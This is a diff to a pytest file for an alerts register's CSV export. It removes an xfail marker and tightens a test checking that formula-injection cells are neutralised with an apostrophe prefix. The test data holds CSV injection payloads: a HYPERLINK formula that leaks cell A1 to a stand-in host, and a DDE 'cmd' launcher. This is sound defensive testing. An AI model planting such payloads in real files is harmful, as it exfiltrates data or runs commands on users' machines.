@@ -569,9 +569,6 @@ def test_exports_of_an_empty_register(target, tmp_path, ref):
     assert "Facteur" in outs[("rapport", "csv")].read_text(encoding="utf-8-sig")
 
 
-@pytest.mark.xfail(strict=True, reason="DÉFAUT NON CORRIGÉ (core/alerts/exports.py, édité par un autre ingénieur) : write_csv écrit tel quel un "
-                   "titre « =HYPERLINK(…) » ; Excel l'exécute comme une formule (injection CSV, OWASP). À neutraliser dans l'export "
-                   "(préfixer d'une apostrophe les cellules commençant par = + - @ tabulation ou retour chariot).")
 def test_csv_export_neutralises_formula_injection(target, tmp_path):
     payloads = ['=HYPERLINK("http://exemple.invalid/?leak="&A1;"Cliquez")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
     with target.open() as reg:
@@ -582,6 +579,7 @@ def test_csv_export_neutralises_formula_injection(target, tmp_path):
     cells = [r["Titre"] for r in rows] + [r["Propriétaire"] for r in rows]
     assert len(cells) == 8
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
+    assert sorted(set(cells)) == sorted("'" + p for p in payloads)  # the text is kept, marked as text for the spreadsheet
 
 
 def test_cli_refuses_impossible_date_and_writes_nothing(tmp_path):
